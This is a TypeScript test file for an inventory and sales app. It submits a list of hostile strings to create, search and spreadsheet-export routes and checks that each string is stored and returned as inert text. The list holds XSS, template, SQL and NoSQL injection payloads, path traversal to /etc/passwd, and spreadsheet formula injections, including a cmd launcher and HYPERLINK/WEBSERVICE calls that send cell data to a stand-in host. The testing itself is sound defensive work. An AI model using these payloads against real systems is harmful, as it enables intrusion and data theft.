import type { ReportKind } from '@app/schemas/reports';
import { describe, expect, it } from 'vitest';
import { useApi } from '../api.ts';
import { figure, isLong } from '../figures.ts';
import { totalOf } from '../observations.ts';
import { recorder, routesOf, samples } from '../samples.ts';
import { openReport } from '../spreadsheets.ts';
import { make, makeStock, saleOf, useWorld, type Values } from '../world.ts';

const api = useApi();
const world = useWorld(api);
const { input: newInput, record } = recorder(world);

const texts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{7*7}#{7*7}<%= 7*7 %>',
  '=1+1',
  '+1-1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://elsewhere.test?"&A1,"x")',
  '=cmd|" /C calc"!A0',
  '=WEBSERVICE("http://elsewhere.test")',
  '\u200b=1+1',
  '\uff1d1+1',
  ']]><!-- -->&lt;&#x3c;&unknown;',
  '_x0000_ _x001F_ _xD800_',
  'a\u0001\u0008\u000b\u001f\u007f\u0085z',
  'a\ufffe\uffffz',
  '\u202eexe.txt\u202c',
  'tab\tand\nline\r\nends',
  "'; DROP TABLE products; --",
  '%s%s%n%x',
  '../../../../etc/passwd',
  '\\\\elsewhere\\share',
  'ኃይሉ 📦 e\u0301',
  '.*+?^\u0024{}()|[]\\',
  '$where',
  '__proto__',
  'null',
  'undefined',
  'NaN',
  '0x10',
  '1e999',
  'x'.repeat(200),
];

const hostile = isLong ? texts : texts.filter((_text, at) => at % 4 === 1);

describe.each(samples.map((sample) => [sample.contract.name, sample] as const))(
  'a hostile text in %s',
  (_name, sample) => {
    const fields = Object.entries(sample.texts).filter(([field]) => field !== 'email');

    it('is stored and answered to the letter, as JSON that no browser takes for a page, and found again', async () => {
      for (const [at, text] of hostile.entries()) {
        const [, field] = fields[at % fields.length] ?? [];
        if (!field) throw new Error('no text field');
        const input = { ...(await newInput(sample)), ...(await field(text, world)) };
        const answer = await world.admin.call(routesOf(sample).create, input);
        figure('attacks tried', 1);
        if (answer.status === 400) continue;
        expect([text, answer.status]).toEqual([text, 201]);
        expect(JSON.stringify(answer.body.data)).toContain(JSON.stringify(text.trim()).slice(1, -1));
        expect(answer.headers).toMatchObject({
          'content-type': 'application/json; charset=utf-8',
          'x-content-type-options': 'nosniff',
        });
        const { search } = routesOf(sample);
        const { body } = await world.admin.call(search, { data: text, limit: 100 });
        expect([text, body.data.some(({ _id }: Values) => _id === answer.body.data._id)]).toEqual([
          text,
          true,
        ]);
      }
    }, 120_000);

    it('searched for finds nothing but itself', async () => {
      const { search, list } = routesOf(sample);
      await record(sample);
      const all = await totalOf(world.admin, list);
      for (const data of [
        '.*',
        '^',
        '$',
        '|',
        '(?:)',
        '[^x]',
        '\\w',
        '%',
        '_%',
        '*',
        '{"$ne":null}',
        '(a+)+$'.repeat(20),
      ]) {
        const { status, body } = await world.admin.call(search, { data });
        figure('attacks tried', 1);
        expect([data, status, body.total < all]).toEqual([data, 200, true]);
      }
    });
  },
);

describe('a spreadsheet', () => {
  it.each<readonly [ReportKind, Values]>([
    ['sales', {}],
    ['ethiopianShipments', { startDate: '2020-01-01', endDate: '2099-01-01' }],
    ['freeZoneShipments', { startDate: '2020-01-01', endDate: '2099-01-01' }],
    ['chinaShipments', { startDate: '2020-01-01', endDate: '2099-01-01' }],
  ])(
    'of %s opens, and holds every hostile text as a text',
    async (kind, range) => {
      const stock = await makeStock(world, 1_000);
      const sale = saleOf({ ...stock, quantity: 1, SellingPrice: 5 });
      for (const text of hostile) {
        if (kind === 'sales')
          await make(world.admin, 'POST /sale/create', { ...sale, custormerName: text, SalesMan: text });
      }
      const { sheet } = await openReport(world.admin, kind, range);
      let count = 0;
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect([cell.address, cell.formula, cell.hyperlink]).toEqual([cell.address, undefined, undefined]);
          if (typeof cell.value === 'string') count++;
        }),
      );
      expect(count).toBeGreaterThan(hostile.length);
      figure('attacks tried', hostile.length);
    },
    120_000,
  );
});
